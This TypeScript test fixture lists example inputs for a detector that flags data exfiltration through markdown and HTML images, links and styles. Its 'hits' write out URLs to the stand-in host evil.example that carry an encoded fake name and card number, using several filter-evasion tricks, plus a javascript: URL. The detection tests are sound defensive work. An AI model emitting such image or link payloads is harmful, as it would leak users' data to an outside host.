import type { DetectorKind } from "../detector.ts";

const options = { allowHosts: ["docs.example.com", "*.cdn.example.com"] };
const cargo = "bmFtZT1Bbm5hIFdlYmVyO2NhcmQ9NDExMQ";

export const exfiltrationExamples: DetectorKind["examples"] = {
  hits: [
    { text: "![ok](https://evil.example/p.png)", rule: "external-image", options },
    { text: "![ok]( <https://evil.example/p q.png> )", rule: "external-image", options },
    { text: "![a [nested] alt](HTTPS://EVIL.example/x)", rule: "external-image", options },
    { text: "![x](//evil.example/x)", rule: "external-image", options },
    { text: "![x](https:\\\\evil.example\\x)", rule: "external-image", options },
    { text: "![x](https:evil.example/x)", rule: "external-image", options },
    { text: "![x](https://docs.example.com@evil.example/x)", rule: "external-image", options },
    { text: "![x](https://%65vil.example/x)", rule: "external-image", options },
    { text: "![x](https://xn--dcs-1na.example.com/x)", rule: "external-image", options },
    { text: "![x](http://203.0.113.9/x)", rule: "external-image", options },
    { text: "![x](https://docs.example.com.evil.example/x)", rule: "external-image", options },
    { text: "![x](https://cdn.example.com/x)", rule: "external-image", options },
    { text: "See ![chart][c].\n\n[c]: https://evil.example/c.png", rule: "reference-image", options },
    { text: "See ![chart] here", rule: "reference-image", options },
    { text: '<img alt="" src="https://evil.example/x">', rule: "external-image", options },
    { text: "<IMG SRC = 'https&#58;//evil.example/x'>", rule: "external-image", options },
    { text: '<link rel="stylesheet" href="//evil.example/a.css">', rule: "external-image", options },
    { text: "<div style=\"background:url('https://evil.example/x')\">", rule: "external-image", options },
    { text: `[more](https://evil.example/r?d=${cargo})`, rule: "data-link", options },
    { text: `Open https://evil.example/log/${cargo}.`, rule: "data-link", options },
    { text: `www.evil.example/?data=${cargo}`, rule: "data-link", options },
    { text: `<https://${cargo.toLowerCase()}.evil.example/>`, rule: "data-link", options },
    { text: "[click](javascript:alert(1))", rule: "script-url", options },
    { text: "See https://other.example/page", rule: "external-link", options: { ...options, links: "all" } },
  ],
  misses: [
    { text: "![logo](https://docs.example.com/logo.png) ![i](https://a.cdn.example.com/i.png)", options },
    { text: "![logo](/static/logo.png) ![dot](data:image/png;base64,iVBORw0KGgo=)", options },
    { text: "Read [the guide](https://en.wikipedia.org/wiki/Parapet) or https://www.example.org/a/b.", options },
    { text: "https://www.google.com/search?q=parcel+tracking", options },
    { text: "let v = vec![1, 2, 3]; rows![0]; wow!", options },
    { text: "a = b; src = 4; url(foo); at 10:/ nothing", options },
    { text: '<a href="https://docs.example.com/x?data=aaaaaaaaaaaaaaaaaaaa">x</a>', options },
    { text: `[more](https://evil.example/r?d=${cargo})`, options: { ...options, links: "none" } },
  ],
};
